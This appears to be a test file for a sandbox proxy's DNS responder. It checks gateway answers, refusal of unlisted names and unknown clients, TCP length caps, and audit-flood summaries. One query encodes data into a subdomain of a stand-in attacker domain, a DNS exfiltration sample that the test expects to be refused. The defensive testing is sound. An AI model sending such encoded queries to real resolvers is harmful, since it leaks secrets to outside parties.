// The DNS responder's sockets (src/proxy/dns-responder.ts) on loopback: UDP and TCP answers,
// silence for clients that are not the VM, the TCP limits, one audit record per query and a
// summary instead of thousands under a flood; and the flood limiter itself.

import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { createSocket } from 'node:dgram';
import { connect } from 'node:net';
import * as dnsPacket from 'dns-packet';
import type { AuditRecord, ProxyConfig } from '../../src/formats/proxy-config.ts';
import { DNS_RECORDS_PER_SECOND, startDnsResponder } from '../../src/proxy/dns-responder.ts';
import { limitAudit } from '../../src/proxy/audit-flood.ts';
import { parseCidr, type Cidr } from '../../src/net/ip-address.ts';

const CONFIG = {
  rules: [{ name: 'claude', host: 'api.anthropic.test', port: 443 }],
  dns: { listen: { host: '127.0.0.1', port: 0 }, answer: '192.168.64.1', ttl: 30 },
} as unknown as ProxyConfig;
const cidr = (text: string): Cidr => parseCidr(text) as Cidr;

// A UDP query from `from`; the decoded answer, or undefined after `ms` without one.
function udpQuery(port: number, name: string, from = '127.0.0.1', ms = 500): Promise<dnsPacket.DecodedPacket | undefined> {
  return new Promise((resolve) => {
    const s = createSocket('udp4');
    const timer = setTimeout(() => { s.close(); resolve(undefined); }, ms);
    s.on('message', (m) => { clearTimeout(timer); s.close(); resolve(dnsPacket.decode(m)); });
    s.bind(0, from, () => s.send(dnsPacket.encode({ id: 42, type: 'query', questions: [{ name, type: 'A' }] }), port, '127.0.0.1'));
  });
}

test('responder: UDP and TCP answer the VM, a listed name with the gateway, others NXDOMAIN; each query one record', async () => {
  const records: AuditRecord[] = [];
  const r = await startDnsResponder(CONFIG, { allow: [cidr('127.0.0.1/32')], audit: (x) => records.push(x), now: Date.now, log: () => {} });
  try {
    const a = await udpQuery(r.address.port, 'api.anthropic.test');
    assert.equal(a?.answers?.map((x) => (x as { data: string }).data), ['192.168.64.1']);
    assert.is(((await udpQuery(r.address.port, 'exfil-c2VjcmV0.evil.test')) as unknown as { rcode: string } | undefined)?.rcode, 'NXDOMAIN');
    const tcp = await new Promise<dnsPacket.DecodedPacket>((resolve, reject) => {
      const s = connect(r.address.port, '127.0.0.1', () => s.write(dnsPacket.streamEncode({ id: 7, type: 'query', questions: [{ name: 'api.anthropic.test', type: 'A' }] })));
      let got = Buffer.alloc(0);
      s.on('data', (d) => {
        got = Buffer.concat([got, d]);
        if (got.length >= 2 && got.length >= 2 + got.readUInt16BE(0)) { s.destroy(); resolve(dnsPacket.streamDecode(got) as dnsPacket.DecodedPacket); }
      });
      s.on('error', reject);
    });
    assert.equal(tcp.answers?.map((x) => (x as { data: string }).data), ['192.168.64.1']);
    assert.ok(records.every((x) => x.port === 53), 'recorded as the port the VM asked');
    assert.equal(records.map((x) => [x.door, x.name, x.decision, x.rule]), [
      ['dns', 'api.anthropic.test', 'allowed', 'claude'],
      ['dns', 'exfil-c2vjcmv0.evil.test', 'refused', undefined],
      ['dns', 'api.anthropic.test', 'allowed', 'claude'],
    ]);
    assert.match(records[1]!.reason, /NXDOMAIN.*nothing forwarded/);
  } finally {
    await r.close();
  }
});

test('responder: a client outside allowClients gets no answer on UDP and a closed socket on TCP', async () => {
  const records: AuditRecord[] = [];
  const r = await startDnsResponder(CONFIG, { allow: [cidr('192.168.64.2/32')], audit: (x) => records.push(x), now: Date.now, log: () => {} });
  try {
    assert.is(await udpQuery(r.address.port, 'api.anthropic.test', '127.0.0.1', 300), undefined);
    const closed = await new Promise<number>((resolve) => {
      const s = connect(r.address.port, '127.0.0.1', () => s.write(dnsPacket.streamEncode({ id: 7, type: 'query', questions: [{ name: 'api.anthropic.test', type: 'A' }] })));
      let bytes = 0;
      s.on('data', (d) => { bytes += d.length; });
      s.on('close', () => resolve(bytes));
      s.on('error', () => {});
    });
    assert.is(closed, 0);
    assert.ok(records.every((x) => x.decision === 'refused' && /not allowed/.test(x.reason)));
  } finally {
    await r.close();
  }
});

test('responder: a TCP length above the cap closes the connection without reading it', async () => {
  const r = await startDnsResponder(CONFIG, { allow: [cidr('127.0.0.1/32')], audit: () => {}, now: Date.now, log: () => {} });
  try {
    const bytes = await new Promise<number>((resolve) => {
      const s = connect(r.address.port, '127.0.0.1', () => s.write(Buffer.from([0xff, 0xff, 1, 2, 3])));
      let n = 0;
      s.on('data', (d) => { n += d.length; });
      s.on('close', () => resolve(n));
      s.on('error', () => {});
    });
    assert.is(bytes, 0);
  } finally {
    await r.close();
  }
});

test('responder: a flood of 2000 queries is answered but written as at most 50 records a second plus one summary', async () => {
  const records: AuditRecord[] = [];
  const r = await startDnsResponder(CONFIG, { allow: [cidr('127.0.0.1/32')], audit: (x) => records.push(x), now: Date.now, log: () => {} });
  const s = createSocket('udp4');
  let answers = 0;
  s.on('message', () => { answers++; });
  await new Promise<void>((resolve) => s.bind(0, '127.0.0.1', () => resolve()));
  try {
    // In bursts of 100, so the socket buffers (not the responder) are not what drops queries.
    for (let burst = 0; burst < 20; burst++) {
      for (let i = burst * 100; i < burst * 100 + 100; i++) s.send(dnsPacket.encode({ id: i, type: 'query', questions: [{ name: `n${i}.flood.test`, type: 'A' }] }), r.address.port, '127.0.0.1');
      const until = Date.now() + 1000;
      while (answers < burst * 100 + 95 && Date.now() < until) await new Promise((x) => setTimeout(x, 5));
    }
  } finally {
    s.close();
    await r.close();
  }
  assert.ok(answers >= 1900, `${answers} answers`);
  const summaries = records.filter((x) => /^flood:/.test(x.reason));
  const individual = records.length - summaries.length;
  const counted = summaries.reduce((n, x) => n + x.count!, 0);
  assert.ok(summaries.every((x) => x.event === 'summary' && x.door === 'dns' && x.until! >= x.time));
  assert.ok(records.length < 200, `${records.length} records`);
  assert.ok(individual <= DNS_RECORDS_PER_SECOND * 4, `${individual} individual records`);
  // Every query is accounted for: written one by one or counted in a summary (a few may be lost by
  // UDP itself on a busy machine: the answers above count those).
  assert.is(individual + counted, Math.max(answers, individual + counted));
  assert.ok(individual + counted >= answers);
});

test('flood limiter: the summary is written when the second ends, even when nothing follows', async () => {
  const out: AuditRecord[] = [];
  let t = 10_000;
  const flood = limitAudit((x) => out.push(x), 2, () => t);
  const rec = (n: number): AuditRecord => ({ time: `t${n}`, door: 'dns', client: 'c', name: `n${n}`, port: 53, decision: 'refused', reason: 'x', bytesUp: 0, bytesDown: 0, durationMs: 0 });
  for (let i = 0; i < 5; i++) flood.write(rec(i));
  assert.equal(out.map((x) => x.name), ['n0', 'n1']);
  t = 11_000;
  flood.write(rec(5));
  assert.equal(out.map((x) => x.name), ['n0', 'n1', '', 'n5']);
  assert.match(out[2]!.reason, /^flood: 3 more record\(s\)/);
  assert.equal([out[2]!.event, out[2]!.count, out[2]!.time, out[2]!.until], ['summary', 3, 't2', 't4']);
  for (let i = 6; i < 9; i++) flood.write(rec(i));
  await new Promise((x) => setTimeout(x, 1100));
  assert.match(out.at(-1)!.reason, /^flood: 2 more/);
});

test.run();
